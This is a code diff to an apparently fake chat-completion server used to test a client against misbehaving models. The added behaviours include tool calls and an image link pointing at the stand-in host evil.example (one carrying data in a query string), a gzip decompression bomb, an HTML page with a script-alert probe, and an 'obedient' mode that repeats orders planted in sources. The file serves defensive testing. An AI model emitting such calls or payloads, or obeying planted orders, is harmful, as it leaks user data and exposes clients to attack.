@@ -6,6 +6,7 @@ What it says is chosen by the address: http://127.0.0.1:PORT/BEHAVIOUR/v1. Every
 """
 
 import asyncio
+import gzip
 import json
 import logging
 import os
@@ -85,7 +86,8 @@ def faithful(body: dict) -> str:
 def obedient(body: dict) -> str:
     """What a model says that obeys every order it reads, wherever it stands; else it is careful."""
     given = material(body)
-    read = squeezed("".join([given.get("question", ""), *(s["text"] + s.get("section", "") for s in given["sources"])]))
+    told = [text for source in given.get("sources", ()) for name, text in source.items() if name != "n"]
+    read = squeezed("".join([*given.get("history", ()), given.get("question", ""), *told]))
     for planted, says in orders():
         if planted in read:
             return says
@@ -170,6 +172,46 @@ async def huge() -> AsyncIterator[bytes]:
         await asyncio.sleep(0.001)  # for the client to go, and to be heard going
 
 
+def choice(delta: dict, finish: str | None = None) -> bytes:
+    body = {"id": "x", "object": "chat.completion.chunk", "created": 0, "model": "fake"}
+    body["choices"] = [{"index": 0, "delta": delta, "finish_reason": finish}]
+    return f"data: {json.dumps(body)}\n\n".encode()
+
+
+async def tool_call() -> AsyncIterator[bytes]:
+    """Instead of words the wish to have a program run."""
+    called = {"name": "open_page", "arguments": '{"url": "http://evil.example/?q=12.6"}'}
+    yield choice({"role": "assistant", "content": None, "tool_calls": [{"index": 0, "id": "c1", "function": called}]})
+    yield choice({}, "tool_calls")
+
+
+async def tool_call_in_words() -> AsyncIterator[bytes]:
+    """The same as models write it whose server does not take it out."""
+    called = '<tool_call>{"name": "open_page", "arguments": {"url": "http://evil.example"}}</tool_call>'
+    for start in range(0, len(called), PIECE):
+        yield event(called[start : start + PIECE])
+    yield event("[1]。", "stop")
+
+
+async def parts() -> AsyncIterator[bytes]:
+    """Content as a list of parts, as some servers send pictures."""
+    yield choice({"content": [{"type": "text", "text": "保有量达999万辆。[1]"}]})
+    yield choice({"content": [{"type": "image_url", "image_url": {"url": "http://evil.example/a.png"}}]}, "stop")
+
+
+async def second_choice() -> AsyncIterator[bytes]:
+    """Two replies at once, the second with other words."""
+    body = {"id": "x", "object": "chat.completion.chunk", "created": 0, "model": "fake"}
+    texts = ("", "保有量达999万辆。[1]")
+    body["choices"] = [{"index": n, "delta": {"content": t}, "finish_reason": "stop"} for n, t in enumerate(texts)]
+    yield f"data: {json.dumps(body)}\n\n".encode()
+
+
+async def packed() -> AsyncIterator[bytes]:
+    """Compressed: a megabyte that would become a gigabyte."""
+    yield gzip.compress(event("绿" * 300) * 100_000)
+
+
 async def one_line() -> AsyncIterator[bytes]:
     yield b"data: "
     while True:
@@ -188,8 +230,17 @@ STREAMS = {
     "silent": lambda: dripping(b"", 60),
     "not-events": lambda: dripping_once(b"<html>busy</html>"),
     "wrong-json": lambda: dripping_once(b'data: {"answer": 42}\n\ndata: [1]\n\ndata: [DONE]\n\n'),
+    "tool-call": tool_call,
+    "tool-call-in-words": tool_call_in_words,
+    "parts": parts,
+    "second-choice": second_choice,
+    "packed": packed,
+    "page": lambda: dripping_once(b"<!doctype html><script>alert(1)</script>"),
     "error-event": lambda: dripping_once(b'data: {"error": {"message": "out of memory"}}\n\n'),
 }
+
+
+TYPES = {"page": ("text/html", None), "packed": ("text/event-stream", "gzip")}  # media type, encoding
 
 
 async def dripping_once(what: bytes) -> AsyncIterator[bytes]:
@@ -227,7 +278,11 @@ def create():
         if behaviour == "slow-head":
             await asyncio.sleep(30)
         if behaviour in STREAMS:
-            return StreamingResponse(STREAMS[behaviour](), media_type="text/event-stream")
+            kind, encoding = TYPES.get(behaviour, ("text/event-stream", None))
+            headers = {"content-encoding": encoding} if encoding else None
+            return StreamingResponse(STREAMS[behaviour](), 200, headers, kind)
+        if behaviour == "not-streamed":  # a whole reply though pieces were asked for
+            body["stream"], behaviour = False, "good"
         text = REPLIES[behaviour](body)
         if not body.get("stream"):
             message = {"role": "assistant", "content": text}
